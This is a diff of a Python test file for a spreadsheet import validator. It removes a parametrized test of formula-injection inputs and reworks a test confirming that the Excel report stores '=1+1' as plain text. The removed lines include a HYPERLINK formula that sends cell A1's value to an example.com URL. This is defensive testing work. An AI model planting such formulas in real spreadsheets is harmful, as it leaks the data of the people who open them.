@@ -167,21 +167,14 @@ def test_a_column_mixing_both_conventions_holds_back_what_is_ambiguous():
     assert problem.row == 4 and "1234" in problem.text("en") and "1.234" in problem.text("en")
 
 
-# ---- 2. formulas -------------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize(
-    "value", ["=1+1", '=HYPERLINK("http://example.com/?d="&A1,"klik")', "+62812", "-tanpa", "@SUM(A1)"]
-)
-def test_text_that_a_spreadsheet_would_run_is_held_back(value):
-    content = (HEADER + "\n" + GOOD.format(n=1).replace("pendampingan-2024", quoted(value)) + "\n").encode()
-    result = check(content)
-    assert result.accepted.empty and held(result) == {(2, "programme", "formula")}
+# ---- 2. formulas (stored as typed since issue 21: tests/test_import_office_rows.py) -------------
 
 
 def test_the_validation_report_in_excel_holds_no_formula():
-    content = (HEADER + "\n" + GOOD.format(n=1).replace("pendampingan-2024", '"=1+1"') + "\n").encode()
-    book = openpyxl.load_workbook(io.BytesIO(imports.report_xlsx(check(content), "en")))
+    content = (HEADER + "\n" + GOOD.format(n=1).replace(",42,", ',"=1+1",') + "\n").encode()
+    result = check(content)
+    assert held(result) == {(2, "pre_score", "not_number")}  # the report quotes the cell as typed
+    book = openpyxl.load_workbook(io.BytesIO(imports.report_xlsx(result, "en")))
     cells = [c for row in book.active.iter_rows() for c in row]
     assert "=1+1" in [c.value for c in cells] and not [c for c in cells if c.data_type == "f"]
 
